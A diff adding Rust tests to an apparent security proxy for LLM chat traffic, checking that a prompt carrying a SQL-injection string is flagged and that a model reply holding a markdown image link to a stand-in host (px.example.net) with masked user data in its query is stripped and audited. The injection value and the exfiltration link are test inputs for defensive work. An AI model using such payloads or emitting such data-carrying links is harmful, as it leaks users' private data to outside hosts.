@@ -302,3 +302,35 @@ fn a_request_id_that_is_not_id_shaped_stays_out_and_so_does_everything_when_audi
     assert_eq!(ex.audit_ids(), &Default::default());
     assert!(!off.config().audit.enabled);
 }
+
+#[test]
+fn a_flagged_request_and_a_reply_link_carrying_its_data_are_recorded() {
+    // A value that breaks out of its SQL string: flagged by default, not blocked.
+    let text = format!("Look up customer 1' OR '1'='1' -- and mail {EMAIL}.");
+    let mut run = Run::request(guard("{}"), "/v1/chat/completions", &chat(&text));
+    assert!(!run.local);
+    let placeholders = run.placeholders();
+    run.reply_headers("application/json");
+    let reply = run.buffered_reply(&format!("Done. ![a](https://px.example.net/t.png?u={})", placeholders[0]));
+    assert!(!reply.contains("px.example.net"), "{reply}");
+    let (_, json) = run.record(true, true);
+    assert_eq!(json["actions"], json!(["masked", "flagged", "reply_content_removed"]));
+    assert_eq!(json["threat"]["action"], "flag");
+    assert!(json["threat"]["categories"].as_array().unwrap().contains(&json!("sqli")), "{json}");
+    assert_eq!(json["reply"]["links_removed"], 1);
+    assert_eq!(json["reply"]["findings"]["exfiltration_link"], 1);
+    assert_clean(&json, &[EMAIL, "1' OR '1'='1'", "px.example.net", &placeholders[0]]);
+}
+
+#[test]
+fn a_reply_over_the_limit_is_recorded_as_unrestored() {
+    let text = format!("Mail {EMAIL}.");
+    let mut run = Run::request(guard(r#"{"max_response_bytes": 1024}"#), "/v1/chat/completions", &chat(&text));
+    run.reply_headers("application/json");
+    let trail = &mut run.trail;
+    let held = run.ex.reply_body_held(&run.g, ContentEncoding::Identity, 4096, &mut |e| trail.observe(&e));
+    assert!(held.is_err());
+    let (_, json) = run.record(true, true);
+    assert_eq!(json["reply"]["unrestored"], "too_large");
+    assert_eq!(json["reply"]["restored"], 0);
+}
